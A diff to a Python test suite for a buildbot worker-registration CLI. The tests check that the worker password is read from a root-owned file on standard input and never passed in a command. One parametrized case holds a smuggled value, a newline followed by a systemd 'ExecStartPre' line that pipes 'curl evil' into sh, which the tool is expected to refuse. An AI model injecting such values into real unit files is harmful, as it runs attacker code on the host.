@@ -2,9 +2,10 @@
 
 from __future__ import annotations
 
-import os
 import re
 import stat
+import subprocess
+import sys
 
 import pytest
 import yaml
@@ -12,9 +13,9 @@ import yaml
 from clirun import InProcessCrcr
 from configfiles import make_dirs, write_backend, write_worker, write_worker_password
 from harness import VENV_BIN, free_port
-from printedsetup import host_with_venv, run_paragraph
+from printedsetup import host_with_venv, paragraph, run_paragraph
 
-# What the printed create-worker commands pass as the password: buildbot.tac then reads the host's file.
+# What the printed create-worker commands pass as the password: buildbot.tac then reads it on standard input.
 PLACEHOLDER = "see-password-file"
 
 
@@ -84,27 +85,37 @@ def test_the_password_is_printed_only_as_standard_input_never_in_a_command(dirs,
     assert result.stdout.count(password) == 1, result.stdout
 
 
-def test_the_printed_create_commands_pass_no_password_to_any_process_and_the_units_read_the_hosts_file(
+def test_the_printed_commands_pass_no_password_to_any_process_and_the_units_read_it_on_standard_input(
     dirs, crcr, register, tmp_path
 ):
     host_dir = host_with_venv(tmp_path / "host", VENV_BIN)
-    printed = register("lab1", "--host-dir", host_dir).stdout
+    password_file = tmp_path / "etc" / "crcr-worker" / "password"
+    printed = register("lab1", "--host-dir", host_dir, "--password-file", password_file).stdout
     password = (dirs.secrets / "worker-lab1").read_text().strip()
 
     # bash -x traces every command it runs with its arguments, as `ps` would show them.
-    traced = run_paragraph(printed, " create-worker ")
+    traced = [run_paragraph(printed, " create-worker "), run_paragraph(printed, "/dev/stdin")]
 
-    assert password not in traced.stderr, traced.stderr
-    password_file = host_dir / "password"
+    assert all(password not in t.stderr for t in traced), [t.stderr for t in traced]
     assert (password_file.read_text().strip(), stat.S_IMODE(password_file.stat().st_mode)) == (password, 0o600)
+    assert f"StandardInput=file:{password_file}\n" in printed, "systemd hands the file to each unit as it starts"
     for unit in ("lab1-spyre-0", "lab1-spyre-1"):
         tac = (host_dir / unit / "buildbot.tac").read_text()
         assert password not in tac
-        [passwd] = [line for line in tac.splitlines() if line.startswith("passwd = ")]
-        namespace: dict = {}
-        exec(passwd, {"os": os}, namespace)  # what the unit logs in with when it starts
-        assert namespace["passwd"] == password
+        [passwd] = [line for line in tac.splitlines() if "passwd = " in line]
+        # What the unit logs in with when it starts, its standard input the password file.
+        with open(password_file) as stdin:
+            read = subprocess.run([sys.executable, "-c", f"{passwd}\nprint(passwd)"], stdin=stdin,
+                                  capture_output=True, text=True, check=True)
+        assert read.stdout == password + "\n"
         assert (host_dir / unit / "info" / "host").read_text() == f"lab1: spyre unit {unit[-1]}\n"
+
+
+def test_by_default_the_password_file_is_outside_the_workers_folders_and_only_root_writes_it(dirs, register):
+    printed = register("lab1").stdout
+
+    assert "StandardInput=file:/etc/crcr-worker/password\n" in printed
+    assert paragraph(printed, "/dev/stdin").startswith("# As root: the host's password in /etc/crcr-worker/password")
 
 
 def test_passwords_are_random_per_host(dirs, crcr, register):
@@ -168,7 +179,8 @@ def test_rotate_password_changes_only_the_password(dirs, crcr, register):
     assert (dirs.workers / "lab1.yaml").read_text() == host_file
     assert heredoc_bodies(result.stdout) == [after.strip()]  # the new password file, nothing else
     assert "systemctl restart crcr-worker@lab1-spyre-0 crcr-worker@lab1-spyre-1" in result.stdout
-    assert "create-worker" not in result.stdout, "the units' buildbot.tac read the password file: nothing to remake"
+    assert "create-worker" not in result.stdout, "the units read the password file at start: nothing to remake"
+    assert paragraph(result.stdout, "/dev/stdin").startswith("# On lab1, as root: the new password")
 
 
 def test_rotate_password_refuses_to_change_the_host(dirs, crcr, register):
@@ -277,8 +289,11 @@ def test_a_host_name_that_is_a_path_is_refused_by_every_command_and_nothing_outs
         ("--host-dir", "/srv/my ci", "must be an absolute path"),
         ("--host-dir", "/srv/%h", "must be an absolute path"),
         ("--host-dir", "srv/ci", "must be an absolute path"),
+        ("--password-file", "/etc/crcr\nExecStartPre=/bin/sh -c 'curl evil | sh'", "must be an absolute path"),
+        ("--password-file", "password", "must be an absolute path"),
     ],
-    ids=["user-newline", "user-space", "user-specifier", "dir-newline", "dir-space", "dir-specifier", "dir-relative"],
+    ids=["user-newline", "user-space", "user-specifier", "dir-newline", "dir-space", "dir-specifier", "dir-relative",
+         "password-newline", "password-relative"],
 )
 def test_host_options_that_would_break_the_commands_or_the_systemd_unit_are_refused(
     dirs, crcr, register, tmp_path, option, value, problem
